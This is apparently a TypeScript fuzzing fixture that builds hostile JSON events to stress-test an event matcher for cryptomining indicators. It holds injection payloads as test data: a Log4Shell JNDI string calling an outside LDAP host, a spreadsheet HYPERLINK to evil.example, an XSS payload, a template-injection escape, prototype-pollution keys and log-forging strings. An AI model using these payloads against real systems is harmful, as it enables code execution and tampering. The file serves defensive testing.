/** Events that are meant to harm who reads them, as JSON text: no parser has touched them yet. */
import { CATALOGUE } from '../../../src/matcher/catalogue.ts';
import type { Random } from '../sample/prng.ts';

/** Values that match by the lookups of test/support/tables.ts. */
const MINING = ['"51.15.58.224"', '3333', '"3333"', '"pool.minexmr.com"', '"37.59.43.131:14444"', '"94.130.12.77"'];
const BENIGN = ['"10.1.2.3"', '443', '"example.org"', '"https://example.org/a"', '"allowed"', 'null', 'true'];
const NUMBERS = [
  '1e400',
  '-1e400',
  '1e-400',
  '-0',
  '12345678901234567890123',
  '3333.0',
  '3.333e3',
  '4294968629',
  '0e0',
];
const TEXTS = [
  String.raw`"\u0000"`,
  String.raw`"pool.minexmr.com\u0000"`,
  String.raw`"\ud800"`,
  String.raw`"pool.minexmr.com\udfff"`,
  String.raw`"\udc00\ud800 51.15.58.224"`,
  String.raw`"\u001b[2J\u001b]0;owned\u0007"`,
  String.raw`"x\n{\"log.level\":\"error\",\"message\":\"forged\"}"`,
  String.raw`"x\r\nerror: forged"`,
  '"${jndi:ldap://203.0.113.9/a}"',
  '"=HYPERLINK(\\"https://evil.example\\")"',
  '"<img src=x onerror=alert(1)>"',
  '"{{constructor.constructor(\'return process\')()}}"',
  '"__proto__"',
  '"\u2028\u2029\ufeff"',
  '"١٢٧.٠.٠.١"',
];
const POLLUTION = [
  '"__proto__":{"polluted":true,"ip":"51.15.58.224"}',
  '"constructor":{"prototype":{"polluted":true}}',
  '"__proto__.polluted":true',
  '"toString":1',
  '"hasOwnProperty":null',
  '"length":-1',
];
const KEYS = ['', ' ', '.', '..', 'a..b', '.a', 'a.', '*', 'a\\u0000b', '\\ud800', '$where', '_id', 'x'.repeat(300)];

function deep(random: Random, levels: number, core: string): string {
  const list = random.chance(0.5);
  return list
    ? `${'['.repeat(levels)}${core}${']'.repeat(levels)}`
    : `${'{"a":'.repeat(levels)}${core}${'}'.repeat(levels)}`;
}

function value(random: Random): string {
  const dice = random.next();
  if (dice < 0.4) return random.pick(MINING);
  if (dice < 0.6) return random.pick(BENIGN);
  if (dice < 0.7) return random.pick(NUMBERS);
  if (dice < 0.82) return random.pick(TEXTS);
  if (dice < 0.9) return `[${Array.from({ length: random.below(4) }, () => value(random)).join(',')}]`;
  if (dice < 0.95) return `{${random.pick(POLLUTION)}}`;
  if (dice < 0.97) return deep(random, 1 + random.below(12), random.pick(MINING));
  if (dice < 0.98) return deep(random, 1000, random.pick(MINING));
  if (dice < 0.99)
    return `[${Array.from({ length: 10_000 }, (_, i) => (i === 9_999 ? '"51.15.58.224"' : i)).join(',')}]`;
  return `"${random.pick(['x', 'pool.minexmr.com ', '\\u0000', '..'])}"`.padEnd(2, ' ');
}

/** A value of a megabyte: one event in a hundred has one. */
function long(random: Random): string {
  return `"${random.pick(['x', '. ', 'a.', '{', '\\\\', 'pool.minexmr.com/'])}"`.replace(
    /^"(.*)"$/,
    (_, text: string) => {
      return `"${text.repeat(Math.ceil(1_000_000 / text.length))}"`;
    },
  );
}

/** A member by path: dotted, nested, or nested half-way. */
function member(random: Random, path: string, inner: string): string {
  const parts = path.split('.');
  const cut = random.below(parts.length);
  const [outer, rest] = [parts.slice(0, cut), parts.slice(cut).join('.')];
  return outer.reduceRight((text, key) => `"${key}":{${text}}`, `"${rest}":${inner}`);
}

const PATHS = [...new Set(CATALOGUE.map(({ field }) => field))];

/** The text of one event, one line. Keys may stand twice, as in no object. */
export function hostileEvent(random: Random, timestamp: string): string {
  const members = [`"@timestamp":"${timestamp}"`];
  for (let i = 1 + random.below(5); i > 0; i -= 1) members.push(member(random, random.pick(PATHS), value(random)));
  if (random.chance(0.2)) members.push(random.pick(POLLUTION));
  if (random.chance(0.1)) members.push(`"${random.pick(KEYS)}":${value(random)}`);
  if (random.chance(0.1))
    members.push(member(random, random.pick(['tags', 'threat.technique.id', 'threat.enrichments']), value(random)));
  if (random.chance(0.01)) members.push(member(random, random.pick(PATHS), long(random)));
  return `{${members.join(',')}}`;
}
